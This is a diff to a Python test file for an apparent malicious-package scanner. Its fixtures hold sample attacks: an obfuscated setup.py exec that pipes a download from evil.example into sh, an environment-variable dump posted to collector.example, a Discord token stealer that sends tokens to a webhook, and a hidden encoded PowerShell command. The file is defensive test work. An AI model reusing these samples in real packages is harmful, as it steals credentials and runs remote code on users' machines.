@@ -37,7 +37,7 @@ def run(cmd):
 
 def test_benign_setup_and_library_stay_clean() -> None:
     v, strong = verdict(sdist("mylib", "1.2.0", {"setup.py": BENIGN_SETUP, "mylib/__init__.py": "from .core import *\n",
-                                                 "mylib/core.py": BENIGN_LIB, "mylib/_version.py": "__version__='1.2.0'\n"}))
+                                                 "mylib/core.py": BENIGN_LIB, "mylib/_version.py": "__version__='1.2.0'\n"}))  # noqa: E501
     assert v == "clean", strong
     assert not strong
 
@@ -66,7 +66,7 @@ setup(name="reqeusts", version="2.31.0", cmdclass={"install": PostInstall})
 def test_exec_of_base64_payload_is_decoded_and_rescanned() -> None:
     inner = "import os\nos.system('curl http://evil.example/p.sh | sh')\n"
     blob = base64.b64encode(zlib.compress(inner.encode())).decode()
-    setup = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\nfrom setuptools import setup\nsetup(name='x')\n"
+    setup = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\nfrom setuptools import setup\nsetup(name='x')\n"  # noqa: E501
     facts = facts_of(sdist("colorlibx", "1.0", {"setup.py": setup}))
     decoded = [s for s in facts.signals if s.decoded]
     assert any(s.kind == "exec.shell-downloader" for s in decoded), [s.kind for s in facts.signals]
@@ -97,7 +97,7 @@ def test_env_dump_to_network_is_exfiltration() -> None:
     code = "import os, json, requests\n\ndef init():\n    data = dict(os.environ)\n" \
            "    requests.post('https://collector.example/x', data=json.dumps(data))\n\ninit()\n"
     v, strong = verdict(sdist("internal-billing-lib", "99.0.1", {"internal_billing_lib/__init__.py": code,
-                                                                  "setup.py": "from setuptools import setup\nsetup()\n"}))
+                                                                  "setup.py": "from setuptools import setup\nsetup()\n"}))  # noqa: E501
     assert v == "malicious"
     assert "package.exfiltration:critical" in strong
 
@@ -127,7 +127,8 @@ HOOK = "https://discord.com/api/webhooks/1122334455667788/abcdefghijklmnopqrstuv
 def grab():
     path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
     for f in os.listdir(path):
-        for t in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(os.path.join(path, f), errors="ignore").read()):
+        text = open(os.path.join(path, f), errors="ignore").read()
+        for t in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", text):
             requests.post(HOOK, json={"content": t})
 '''
     v, strong = verdict(sdist("discord-tools-x", "0.1", {"discord_tools_x/core.py": code,
@@ -138,7 +139,7 @@ def grab():
 
 
 def test_unparsable_python_falls_back_to_text_indicators() -> None:
-    code = "def broken(:\n    os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')\n"
+    code = "def broken(:\n    os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')\n"  # noqa: E501
     facts = facts_of(sdist("brk", "1.0", {"setup.py": code}))
     assert any(s.kind == "code.unparsable" for s in facts.signals)
     assert any(s.kind == "exec.shell-downloader" for s in facts.signals)
